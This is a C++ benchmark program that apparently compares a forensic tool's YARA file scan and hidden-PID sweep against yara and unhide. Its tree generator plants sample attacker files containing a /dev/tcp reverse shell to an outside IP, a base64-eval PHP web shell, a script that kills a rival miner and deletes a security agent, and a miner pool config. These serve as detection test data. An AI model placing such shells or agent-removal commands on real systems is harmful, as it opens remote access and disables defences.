// hunt against its peers, in one run on this machine:
//  1. the file pass with the playbook's YARA rules over a tree of 200,000 files it creates, against
//     `yara -r -p 2` (Debian package yara) with the same rules file over the same tree;
//  2. the hidden-PID sweep over PIDs 1..4,194,304, against `unhide quick` (Debian package unhide).
// Targets (issue 15): hunt at most 0.5x the time of `yara -r -p 2`, peak RSS under 100 MiB. Prints the
// machine and the load average before the runs; the file pass is the median of --runs alternating runs.
// Usage: hunt_bench [--files N] [--runs N] [--keep] [--unmine PATH] [--no-sweep]
//   (run as root for a fair unhide comparison; --no-sweep leaves out the PID sweep, whose unhide run takes minutes)
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <nlohmann/json.hpp>
#include <random>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "bench_host.h"
#include "hunt/pid_sweep.h"
#include "playbook/playbook.h"

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

namespace {

struct Run {
  int status = -1;
  std::string out;
  double seconds = 0;      // wall clock
  double cpu_seconds = 0;  // user + system of the child: what counts when others share the machine
  long max_rss_kib = 0;
};

double cpu_now() {
  struct timespec t {};
  ::clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

// Runs argv (absolute path), capturing stdout; stderr goes to /dev/null.
Run run(const std::vector<std::string>& argv) {
  Run r;
  int pipefd[2];
  if (::pipe(pipefd) != 0) return r;
  auto t0 = Clock::now();
  pid_t pid = ::fork();
  if (pid == 0) {
    ::dup2(pipefd[1], 1);
    int devnull = ::open("/dev/null", O_WRONLY);
    ::dup2(devnull, 2);
    ::close(pipefd[0]);
    std::vector<char*> a;
    for (auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
    a.push_back(nullptr);
    ::execv(a[0], a.data());
    ::_exit(127);
  }
  ::close(pipefd[1]);
  char buf[65536];
  ssize_t n;
  while ((n = ::read(pipefd[0], buf, sizeof buf)) > 0) r.out.append(buf, static_cast<size_t>(n));
  ::close(pipefd[0]);
  struct rusage ru {};
  ::wait4(pid, &r.status, 0, &ru);
  r.cpu_seconds = ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6 + ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6;
  r.max_rss_kib = ru.ru_maxrss;
  r.seconds = std::chrono::duration<double>(Clock::now() - t0).count();
  return r;
}

// Text files of 0.5-8 KiB (the common case on a real system) with a few planted attacker files.
size_t make_tree(const fs::path& root, size_t files, std::vector<std::string>& planted) {
  std::mt19937 rng(42);
  const char* words[] = {"config", "server", "value",  "user",   "cache",  "index",  "token",  "debug",
                         "listen", "module", "import", "return", "static", "public", "string", "number"};
  const std::vector<std::pair<std::string, std::string>> bad = {
      {"rs.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"},
      {"up.php", "<?php @eval(base64_decode($_POST['k'])); ?>\n"},
      {"k.sh", "#!/bin/sh\npkill -9 -f kdevtmpfsi\nrm -rf /usr/local/aegis\n/usr/local/aegis/uninstall.sh\n"},
      {"config.json",
       "{\"pools\": [{\"url\": \"pool.example:4444\", \"user\": \"w\"}], \"donate-level\": 1, \"cpu\": {}}\n"},
  };
  size_t per_dir = 500, bytes = 0;
  for (size_t i = 0; i < files; ++i) {
    auto dir = root / "srv" / "data" / ("d" + std::to_string(i / per_dir));
    if (i % per_dir == 0) fs::create_directories(dir);
    std::string name = "f" + std::to_string(i) + ".txt", body;
    if (i % (files / bad.size()) == 7 && planted.size() < bad.size()) {
      auto& b = bad[planted.size()];
      name = std::to_string(i) + "-" + b.first;
      body = b.second;
      planted.push_back((dir / name).string());
    } else {
      size_t size = 512 + rng() % 7680;
      while (body.size() < size) {
        body += words[rng() % 16];
        body += (rng() % 9 == 0) ? '\n' : ' ';
      }
    }
    std::ofstream(dir / name, std::ios::binary) << body;
    bytes += body.size();
  }
  return bytes;
}

// The run with the median wall time of several.
Run median_run(std::vector<Run> runs) {
  std::sort(runs.begin(), runs.end(), [](auto& a, auto& b) { return a.seconds < b.seconds; });
  return runs[runs.size() / 2];
}

std::set<int> unhide_pids(const std::string& out) {
  std::set<int> pids;
  std::regex re("Found HIDDEN PID: *([0-9]+)");
  for (std::sregex_iterator it(out.begin(), out.end(), re), end; it != end; ++it) pids.insert(std::stoi((*it)[1]));
  return pids;
}

}  // namespace

int main(int argc, char** argv) {
  size_t files = 200000;
  int runs = 3;
  bool keep = false, sweep_too = true;
  std::string unmine = fs::canonical("/proc/self/exe").parent_path().parent_path() / "unmine";
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--files" && i + 1 < argc)
      files = std::stoul(argv[++i]);
    else if (a == "--runs" && i + 1 < argc)
      runs = std::max(1, std::atoi(argv[++i]));
    else if (a == "--keep")
      keep = true;
    else if (a == "--unmine" && i + 1 < argc)
      unmine = argv[++i];
    else if (a == "--no-sweep")
      sweep_too = false;
  }
  bench::print_machine();
  auto work = fs::temp_directory_path() / ("unmine-hunt-bench-" + std::to_string(::getpid()));
  auto root = work / "root";
  fs::create_directories(root);

  // The same rules file for both: every rules/*.yar of the built-in playbook, concatenated.
  auto playbook = unmine::Playbook::load();
  auto rules = work / "rules.yar";
  {
    std::ofstream out(rules);
    for (auto& rel : playbook.files_under("rules/")) out << *playbook.text(rel) << "\n";
  }

  std::vector<std::string> planted;
  auto t0 = Clock::now();
  size_t bytes = make_tree(root, files, planted);
  std::printf("tree: %zu files, %.1f MiB, made in %.1f s (%s)\n", files, bytes / 1048576.0,
              std::chrono::duration<double>(Clock::now() - t0).count(), root.c_str());
  ::sync();

  // Warm the page cache for both the same way: one read pass first.
  run({"/usr/bin/yara", "-r", "-p", "2", rules.string(), root.string()});

  std::printf("\n== file pass: %zu files, the playbook's YARA rules, both cores; load average before: %s\n", files,
              bench::load_average().c_str());
  std::vector<Run> yaras, yara_fasts, hunts;
  for (int i = 0; i < runs; ++i) {
    yaras.push_back(run({"/usr/bin/yara", "-r", "-p", "2", rules.string(), root.string()}));
    yara_fasts.push_back(run({"/usr/bin/yara", "-f", "-r", "-p", "2", rules.string(), root.string()}));
    auto case_dir = work / ("case" + std::to_string(i));
    hunts.push_back(run({unmine, "--root", root.string(), "--case", case_dir.string(), "--json", "hunt", "--since",
                         "1h", "--threads", "2", "--no-pid-sweep"}));
  }
  Run yara = median_run(yaras), yara_fast = median_run(yara_fasts), hunt = median_run(hunts);
  long hunt_rss = 0;
  for (auto& h : hunts) hunt_rss = std::max(hunt_rss, h.max_rss_kib);
  size_t yara_lines = 0, hunt_yara = 0;
  for (char c : yara.out) yara_lines += c == '\n';
  nlohmann::json doc = nlohmann::json::parse(hunt.out, nullptr, false);
  std::set<std::string> hunt_paths;
  if (doc.is_object())
    for (auto& f : doc["findings"])
      if (f["evidence"].contains("rule"))
        ++hunt_yara, hunt_paths.insert((root / f.value("path", "").substr(1)).string());
  size_t both = 0;
  for (auto& p : planted) both += hunt_paths.count(p) && yara.out.find(p) != std::string::npos;
  double scanned = doc.is_object() ? doc["stats"]["files"]["files_scanned"].get<double>() : 0;
  std::printf("median of %d alternating runs\n", runs);
  std::printf("                  wall s   CPU s\n");
  std::printf("yara -r -p 2      %7.2f %7.2f  (%zu rule matches)\n", yara.seconds, yara.cpu_seconds, yara_lines);
  std::printf("yara -f -r -p 2   %7.2f %7.2f  (fast matching mode)\n", yara_fast.seconds, yara_fast.cpu_seconds);
  std::printf(
      "unmine hunt       %7.2f %7.2f  (whole command; %zu YARA findings, %.0f files scanned, exit %d, peak RSS %.1f "
      "MiB)\n",
      hunt.seconds, hunt.cpu_seconds, hunt_yara, scanned, WEXITSTATUS(hunt.status), hunt_rss / 1024.0);
  std::printf("planted files found by both: %zu of %zu\n", both, planted.size());
  std::printf("time ratio hunt / yara -r -p 2: %.2f wall, %.2f CPU (target <= 0.50) %s; vs yara -f: %.2f wall\n",
              hunt.seconds / yara.seconds, hunt.cpu_seconds / yara.cpu_seconds,
              hunt.seconds / yara.seconds <= 0.5 ? "MET" : "NOT MET", hunt.seconds / yara_fast.seconds);
  std::printf("hunt peak RSS: %.1f MiB (target < 100) %s\n", hunt_rss / 1024.0,
              hunt_rss < 100 * 1024 ? "MET" : "NOT MET");

  if (!sweep_too) {
    if (!keep) fs::remove_all(work);
    return 0;
  }
  std::printf("\n== hidden-PID sweep: PIDs 1..%d\n", unmine::kPidMaxLimit);
  unmine::PidSweepOptions so;
  so.threads = 2;
  double cpu0 = cpu_now();
  auto sweep = unmine::find_hidden_pids([] { return unmine::list_proc_tasks("/proc"); }, so);
  double sweep_cpu = cpu_now() - cpu0;
  std::printf("                  wall s   CPU s\n");
  std::printf("unmine sweep      %7.3f %7.3f  (%zu PIDs alive, %zu listed, %zu hidden; CPU includes both listings)\n",
              sweep.sweep_seconds, sweep_cpu, sweep.alive, sweep.listed, sweep.hidden.size());
  std::set<int> ours;
  for (auto& h : sweep.hidden) ours.insert(h.pid);
  if (::access("/usr/sbin/unhide", X_OK) == 0) {
    Run uh = run({"/usr/sbin/unhide", "quick"});
    auto theirs = unhide_pids(uh.out);
    size_t missed = 0;
    for (int p : theirs) missed += !ours.count(p) && unmine::pid_exists(p);
    std::printf("unhide quick      %7.3f %7.3f  (%zu hidden PIDs reported)\n", uh.seconds, uh.cpu_seconds,
                theirs.size());
    std::printf("ratio: the sweep is %.1fx faster than unhide quick; PIDs unhide found that the sweep missed: %zu\n",
                uh.seconds / sweep.sweep_seconds, missed);
  } else {
    std::printf("unhide quick: skipped (/usr/sbin/unhide not installed: apt-get install unhide)\n");
  }
  // On 2 otherwise idle cores the wall time is about half the CPU time.
  std::printf("sweep under 1 s: %s (wall), %s (CPU / 2 threads)\n", sweep.sweep_seconds < 1.0 ? "yes" : "no",
              sweep_cpu / 2 < 1.0 ? "yes" : "no");

  if (!keep) fs::remove_all(work);
  return 0;
}
